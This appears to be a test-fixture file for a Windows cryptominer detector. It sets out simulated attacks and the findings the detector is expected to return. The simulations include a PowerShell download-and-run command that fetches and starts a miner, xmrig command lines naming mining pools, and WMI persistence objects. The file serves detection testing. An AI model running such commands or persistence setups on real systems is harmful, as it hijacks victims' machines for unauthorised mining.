// Attack scenarios: a miner started by each launch path (scheduled task, WMI consumer, PowerShell) and the plainest tells.
import { host, taskAction, P } from './host.mjs';

export const scenarios = {};

// ---- attacks ----------------------------------------------------------
scenarios['attack-schtask-appdata-miner'] = {
  story: 'A scheduled task starts a renamed xmrig from %APPDATA% that burns ~95 % CPU.',
  host: host({
    processes: [
      P(
        4100,
        'svcupdate.exe',
        'C:\\Users\\alice\\AppData\\Roaming\\svcupdate\\svcupdate.exe',
        'svcupdate.exe --config config.json',
        900,
        93,
      ),
    ],
    sustained: [{ pid: 4100, vector: 'scheduled_task', avg: 95 }],
    signatures: { 4100: { original: 'xmrig.exe', renamed: 1, verdict: 'renamed', reasons: 'RENAMED' } },
    tasks: [
      {
        name: 'SvcUpdate',
        path: '\\Microsoft\\Windows\\Maintenance\\',
        action: taskAction([
          '',
          'C:\\Users\\alice\\AppData\\Roaming\\svcupdate\\svcupdate.exe',
          '--config config.json',
        ]),
      },
    ],
  }),
  expected: {
    sustained_cpu_launch_chain: [[4100, 'SUSTAINED_CPU,LAUNCH_SCHEDULED_TASK']],
    masquerade_signature: [[4100, 'RENAMED']],
    suspicious_scheduled_tasks: [['SvcUpdate', 'TASK_USER_WRITABLE,TASK_RUNS_SUSTAINED']],
    composite_finding: [[4100, 'SUSTAINED_CPU,LAUNCH_SCHEDULED_TASK,RENAMED,UNSIGNED_BINARY,USER_WRITABLE_PATH']],
    core_lifetime_cpu: [[4100, 'scheduled_task']],
    core_masquerade: [[4100, 'RENAMED']],
  },
};
scenarios['attack-svchost-in-users-public'] = {
  story: 'xmrig renamed svchost.exe running from C:\\Users\\Public, pool connection on 3333.',
  host: host({
    processes: [
      P(
        4200,
        'svchost.exe',
        'C:\\Users\\Public\\svchost.exe',
        'C:\\Users\\Public\\svchost.exe -o 45.9.20.1:3333 -u 47abc --coin monero',
        2000,
        88,
      ),
    ],
    sustained: [{ pid: 4200, vector: 'interactive', avg: 92 }],
    signatures: {
      4200: { original: 'xmrig.exe', renamed: 1, expected: 0, verdict: 'masquerade', reasons: 'MASQUERADE,RENAMED' },
    },
    connections: [{ pid: 4200, remote: '45.9.20.1', remote_port: 3333, pool: 1 }],
  }),
  expected: {
    sustained_cpu_external_connections: [[4200, 'SUSTAINED_CPU,EXTERNAL_PERSISTENT,POOL_PORT']],
    masquerade_signature: [[4200, 'MASQUERADE,RENAMED']],
    miner_cmdline_processes: [[4200, 'MINER_ALGO']],
    composite_finding: [
      [4200, 'SUSTAINED_CPU,MASQUERADE,RENAMED,UNSIGNED_BINARY,POOL_CONNECTION,MINER_CMDLINE,USER_WRITABLE_PATH'],
    ],
    core_lifetime_cpu: [[4200, 'interactive']],
    core_masquerade: [[4200, 'RENAMED,MASQUERADE']],
  },
};
scenarios['attack-wmi-commandline-consumer'] = {
  story: 'A WMI CommandLineEventConsumer relaunches a miner from ProgramData; WmiPrvSE is its parent.',
  host: host({
    processes: [
      P(
        4300,
        'wuauclt.exe',
        'C:\\ProgramData\\WinSvc\\wuauclt.exe',
        'C:\\ProgramData\\WinSvc\\wuauclt.exe -c C:\\ProgramData\\WinSvc\\c.json',
        1010,
        60,
      ),
    ],
    sustained: [{ pid: 4300, vector: 'wmi', avg: 62 }],
    signatures: {
      4300: { original: 'xmrig.exe', renamed: 1, verdict: 'masquerade', expected: 0, reasons: 'MASQUERADE,RENAMED' },
    },
    wmiCli: [
      {
        namespace: 'root\\subscription',
        name: 'WinSvcUpdater',
        command_line_template: 'C:\\ProgramData\\WinSvc\\wuauclt.exe -c C:\\ProgramData\\WinSvc\\c.json',
        executable_path: '',
        class: 'CommandLineEventConsumer',
        relative_path: 'CommandLineEventConsumer.Name="WinSvcUpdater"',
      },
    ],
    wmiFilters: [
      {
        namespace: 'root\\subscription',
        name: 'WinSvcFilter',
        query:
          "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'",
        query_language: 'WQL',
        class: '__EventFilter',
        relative_path: '__EventFilter.Name="WinSvcFilter"',
      },
    ],
    wmiBindings: [
      {
        namespace: 'root\\subscription',
        consumer: '\\\\.\\root\\subscription:CommandLineEventConsumer.Name="WinSvcUpdater"',
        filter: '\\\\.\\root\\subscription:__EventFilter.Name="WinSvcFilter"',
        class: '__FilterToConsumerBinding',
        relative_path: '__FilterToConsumerBinding.Consumer="x"',
      },
    ],
  }),
  expected: {
    sustained_cpu_launch_chain: [[4300, 'SUSTAINED_CPU,LAUNCH_WMI']],
    masquerade_signature: [[4300, 'MASQUERADE,RENAMED']],
    wmi_persistence: [['WinSvcUpdater', 'WMI_CLI_CONSUMER,WMI_USER_WRITABLE']],
    composite_finding: [[4300, 'SUSTAINED_CPU,LAUNCH_WMI,MASQUERADE,RENAMED,UNSIGNED_BINARY,USER_WRITABLE_PATH']],
    core_lifetime_cpu: [[4300, 'wmi']],
    core_masquerade: [[4300, 'RENAMED,MASQUERADE']],
  },
};
scenarios['attack-powershell-parent-exited'] = {
  story: 'PowerShell downloaded and started a miner, then exited; only remembered lineage shows the launch.',
  host: host({
    processes: [
      P(4400, 'msiexec32.exe', 'C:\\Users\\bob\\AppData\\Local\\Temp\\msiexec32.exe', 'msiexec32.exe -B', 3999, 97),
    ],
    sustained: [{ pid: 4400, vector: 'powershell', avg: 97, parent_name: 'powershell.exe', user: 'DESKTOP\\bob' }],
    powershell: [
      {
        script_block_id: '7f1c2a9e-0b1d-4e4a-9a53-1a2b3c4d5e6f',
        script_text:
          '$c=New-Object Net.WebClient;$c.DownloadFile(\'http://203.0.113.7/m.exe\',"$env:TEMP\\msiexec32.exe");Start-Process "$env:TEMP\\msiexec32.exe" -ArgumentList \'-B --donate-level=1 -o stratum+tcp://pool.minexmr.com:4444\'',
      },
    ],
  }),
  expected: {
    sustained_cpu_launch_chain: [[4400, 'SUSTAINED_CPU,LAUNCH_POWERSHELL']],
    powershell_miner_scripts: [
      ['7f1c2a9e-0b1d-4e4a-9a53-1a2b3c4d5e6f', 'PS_MINER_SCRIPT,MINER_DONATE_LEVEL,MINER_STRATUM_URL,MINER_POOL_HOST'],
    ],
    composite_finding: [[4400, 'SUSTAINED_CPU,LAUNCH_POWERSHELL,UNSIGNED_BINARY,USER_WRITABLE_PATH']],
    core_lifetime_cpu: [[4400, 'other']],
    core_masquerade: [],
  },
};
scenarios['attack-donate-level-pool'] = {
  story: 'A miner with --donate-level connected to a mining pool, started from a user shell.',
  host: host({
    processes: [
      P(
        4500,
        'xmrig.exe',
        'C:\\Tools\\xmrig\\xmrig.exe',
        'xmrig.exe --donate-level=0 -o gulf.moneroocean.stream:10343 -u 4xyz -p x',
        2000,
        99,
      ),
    ],
    sustained: [{ pid: 4500, vector: 'interactive', avg: 99 }],
    connections: [{ pid: 4500, remote: '198.51.100.23', remote_port: 10343, pool: 1 }],
  }),
  expected: {
    sustained_cpu_external_connections: [[4500, 'SUSTAINED_CPU,EXTERNAL_PERSISTENT,POOL_PORT']],
    miner_cmdline_processes: [[4500, 'MINER_DONATE_LEVEL,MINER_POOL_HOST,MINER_TOOL_NAME']],
    composite_finding: [[4500, 'SUSTAINED_CPU,UNSIGNED_BINARY,POOL_CONNECTION,MINER_CMDLINE']],
    core_lifetime_cpu: [[4500, 'interactive']],
    core_masquerade: [],
  },
};
